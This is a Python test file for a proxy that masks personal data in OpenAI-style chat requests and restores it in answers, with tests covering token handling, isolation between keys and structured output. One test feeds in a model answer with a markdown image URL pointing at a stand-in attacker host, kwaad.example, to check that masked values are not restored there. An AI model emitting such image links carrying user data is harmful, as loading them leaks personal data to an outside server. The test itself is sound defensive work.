"""Chat completions with the official client: real values never leave, and all of them come back."""

import json

import openai
import pytest

from harness import people
from harness.leaks import leaks
from harness.raw import call
from standin import TOKEN, Answer

MODEL = "gpt-5-mini"


def user(text):
    return [{"role": "user", "content": text}]


def test_every_kind_of_value_stays_home_and_comes_back(client, standin, nothing_left):
    said = client.chat.completions.create(model=MODEL, messages=user(people.LETTER))
    assert said.choices[0].message.content == people.LETTER
    nothing_left(*people.ALL)
    assert len(standin.last.tokens) >= len(people.ALL)


def test_the_answer_tells_how_much_was_masked_and_which_request_it_was(client, server):
    said = client.chat.completions.with_raw_response.create(model=MODEL, messages=user(people.LETTER))
    assert int(said.headers["x-sluis-masked"]) >= len(people.ALL)
    entries = server.entries(said.headers["x-sluis-request"])
    assert set(entries) == {"sent", "answered"}
    assert entries["sent"]["findings"]["bsn"] == 1
    assert (entries["answered"]["tokens_in"], entries["answered"]["tokens_out"]) == (11, 7)


def test_text_without_personal_data_passes_to_the_letter(client, standin):
    text = 'Wat is het verschil tussen "dan" en \\als\\? 🚢\n\tGraag in 3 regels.'
    said = client.chat.completions.create(model=MODEL, messages=user(text))
    assert said.choices[0].message.content == text
    assert standin.last.json["messages"][0]["content"] == text


def test_one_person_has_one_token_in_all_turns(client, standin, nothing_left):
    history = user(f"Schrijf een brief aan {people.NAME}.")
    for more in ("Maak hem korter.", f"Is {people.NAME} met de u-vorm aangesproken?", "Dank je."):
        answer = client.chat.completions.create(model=MODEL, messages=history).choices[0].message.content
        history += [{"role": "assistant", "content": answer}, *user(more)]
    client.chat.completions.create(model=MODEL, messages=history)
    assert len({token for got in standin.seen for token in got.tokens}) == 1
    nothing_left(people.NAME)


def test_the_token_stays_the_same_when_a_system_text_with_the_date_changes(client, standin):
    for day in ("maandag", "dinsdag"):
        client.chat.completions.create(
            model=MODEL,
            messages=[{"role": "system", "content": f"Het is {day}."}, *user(f"Mail {people.MAIL} de agenda.")],
        )
    first, second = (got.tokens for got in standin.seen)
    assert first == second and len(first) == 1


def test_two_people_never_share_a_token(client, standin, nothing_left):
    names = [f"{first} {last}" for first in ("Jan", "Piet", "Karin", "Fatima") for last in ("Bakker", "Visser", "Smit")]
    text = "\n".join(f"Beste {name}, tot morgen." for name in names)
    said = client.chat.completions.create(model=MODEL, messages=user(text))
    assert said.choices[0].message.content == text
    tokens = TOKEN.findall(standin.last.last_text)
    assert len(set(tokens)) == len(names)
    nothing_left(*names)


def test_two_keys_never_see_each_others_values(server, standin):
    """A token of one key's conversation means nothing in another's."""
    text = f"Bel {people.NAME} op {people.PHONE}."
    first, second = server.key("afdeling A"), server.key("afdeling B")
    call(server, "/v1/chat/completions", {"model": MODEL, "messages": user(text)}, first)
    foreign = standin.last.tokens
    standin.answer = Answer(words=lambda got: " ".join(foreign))
    said = call(server, "/v1/chat/completions", {"model": MODEL, "messages": user(text)}, second).json
    assert set(standin.last.tokens).isdisjoint(foreign)
    assert leaks(said["choices"][0]["message"]["content"].encode(), [people.NAME, people.PHONE]) == []


def test_a_token_that_the_user_typed_comes_back_as_it_was_typed(client, standin):
    text = f"Wat betekent [PERSON_123456] in de brief van {people.NAME}? En PERSON_123456?"
    said = client.chat.completions.create(model=MODEL, messages=user(text))
    assert said.choices[0].message.content == text


def test_an_issued_token_that_the_user_pastes_comes_back_as_it_was_pasted(client, standin):
    question = user(f"Schrijf aan {people.NAME}.")
    client.chat.completions.create(model=MODEL, messages=question)
    token = standin.last.tokens[0]
    pasted = f"Waarom zie ik {token} in mijn document staan?"
    history = [*question, {"role": "assistant", "content": "Ja."}, *user(pasted)]
    said = client.chat.completions.create(model=MODEL, messages=history)
    assert said.choices[0].message.content == pasted


def test_a_token_nobody_issued_is_left_alone(client, standin):
    standin.answer = Answer(words="Zie [PERSON_999999] en [EMAIL_100000B].")
    said = client.chat.completions.create(model=MODEL, messages=user(people.LETTER))
    assert said.choices[0].message.content == "Zie [PERSON_999999] en [EMAIL_100000B]."


MANGLED = {
    "lower case": lambda t: t.lower(),
    "without brackets": lambda t: t.strip("[]"),
    "bold": lambda t: f"**{t}**",
    "code": lambda t: f"`{t}`",
    "bold inside": lambda t: t.replace("[", "[**").replace("]", "**]"),
    "a space": lambda t: t.replace("_", " "),
    "a dash": lambda t: t.replace("_", "-"),
    "escaped underscore": lambda t: t.replace("_", "\\_"),
    "a zero-width space": lambda t: t.replace("_", "_\u200b"),
    "full width": lambda t: "".join(chr(ord(c) + 0xFEE0) if c.isalnum() else c for c in t),
    "translated": lambda t: t.replace("PERSON", "PERSOON"),
    "curly brackets": lambda t: t.replace("[", "{").replace("]", "}"),
    "a no-break space": lambda t: t.replace("_", "\u00a0"),
}


@pytest.mark.parametrize("mangle", MANGLED.values(), ids=MANGLED.keys())
def test_a_token_that_the_model_mangled_is_still_known(client, standin, mangle):
    standin.answer = Answer(words=lambda got: f"Geachte {mangle(got.tokens[0])}, goedemorgen.")
    said = client.chat.completions.create(model=MODEL, messages=user(f"Schrijf aan {people.NAME}."))
    content = said.choices[0].message.content
    assert people.NAME in content and content.endswith(", goedemorgen.")
    assert not TOKEN.search(content)


@pytest.mark.parametrize("ending", ["s", "'s", "’s"])
def test_a_dutch_genitive_stands_behind_the_name(client, standin, ending):
    standin.answer = Answer(words=lambda got: f"Dit is {got.tokens[0]}{ending} dossier.")
    said = client.chat.completions.create(model=MODEL, messages=user(f"Schrijf aan {people.NAME}."))
    assert said.choices[0].message.content == f"Dit is {people.NAME}{ending} dossier."


def test_two_tokens_side_by_side_both_come_back(client, standin):
    standin.answer = Answer(words=lambda got: "".join(got.tokens))
    said = client.chat.completions.create(model=MODEL, messages=user(f"Mail {people.MAIL} en bel {people.PHONE}."))
    assert said.choices[0].message.content == people.MAIL + people.PHONE


def test_a_value_in_a_url_is_not_put_back(client, standin):
    """An answer that loads a picture would carry the value to whoever runs that server."""
    standin.answer = Answer(
        words=lambda got: f"![x](https://kwaad.example/p?q={got.tokens[0]}) en https://kwaad.example/{got.tokens[0]} maar {got.tokens[0]}."
    )
    said = client.chat.completions.create(model=MODEL, messages=user(f"Mail {people.MAIL}.")).choices[0].message.content
    pictures, text = said.rsplit(" maar ", 1)
    assert leaks(pictures.encode(), [people.MAIL]) == []
    assert text == f"{people.MAIL}."


def test_several_choices_keep_apart(client, standin):
    standin.answer = Answer(wire="chat_choices", words=lambda got: {"TEXT0": got.tokens[0], "TEXT1": got.tokens[1]})
    said = client.chat.completions.create(model=MODEL, n=2, messages=user(people.MEETING))
    assert [choice.message.content for choice in said.choices] == [people.ACCENTED, people.OTHER]


def test_a_refusal_is_restored_too(client, standin):
    standin.answer = Answer(wire="chat_refusal", words=lambda got: f"Over {got.tokens[0]} zeg ik niets.")
    said = client.chat.completions.create(model=MODEL, messages=user(f"Roddel over {people.NAME}."))
    assert said.choices[0].message.refusal == f"Over {people.NAME} zeg ik niets."


def test_a_structured_answer_stays_valid_json(client, standin, nothing_left):
    """A value with a quote in it may not break the JSON that the model wrote."""
    name = 'Annelies "Lies" de Wit'
    standin.answer = Answer(words=lambda got: json.dumps({"naam": got.tokens[0], "mail": got.tokens[1]}))
    said = client.chat.completions.create(
        model=MODEL,
        messages=user(f"Contact: {people.NAME}, mail {people.MAIL}."),
        response_format={
            "type": "json_schema",
            "json_schema": {"name": "contact", "schema": {"type": "object", "properties": {"naam": {"type": "string"}}}},
        },
    )
    assert json.loads(said.choices[0].message.content) == {"naam": people.NAME, "mail": people.MAIL}
    assert standin.last.json["response_format"]["json_schema"]["name"] == "contact"
    nothing_left(people.NAME, people.MAIL, name)


def test_the_tool_of_the_model_is_chosen_by_its_name(client, standin):
    client.chat.completions.create(model="standin/gpt-5-mini", messages=user("Hoi"))
    assert standin.last.json["model"] == "gpt-5-mini"


def test_the_key_of_the_client_never_reaches_the_provider(client, standin, key):
    client.chat.completions.create(model=MODEL, messages=user("Hoi"), extra_headers={"x-staff": people.NAME})
    assert leaks(standin.everything, [key, people.NAME]) == []


def test_a_model_nobody_offers_is_not_found(client, standin):
    with pytest.raises(openai.NotFoundError) as caught:
        client.chat.completions.create(model="mixtral", messages=user(people.LETTER))
    assert caught.value.code == "model_not_found"
    assert standin.seen == []


def test_the_models_list_has_what_the_key_can_reach(client, server, standin):
    names = {model.id for model in client.models.list()}
    assert {"demo", "gpt-5-mini", "claude-sonnet-4-5"} <= names
    assert "whisper-1" not in names
    scoped = server.key("alleen demo", tool="demo")
    with openai.OpenAI(base_url=f"{server.url}/v1", api_key=scoped) as narrow:
        assert [model.id for model in narrow.models.list()] == ["demo"]


def test_the_demonstration_model_shows_what_it_got(client, standin):
    said = client.chat.completions.create(model="demo", messages=user(f"Bel BSN {people.BSN} terug."))
    assert people.BSN in said.choices[0].message.content
    assert standin.seen == []
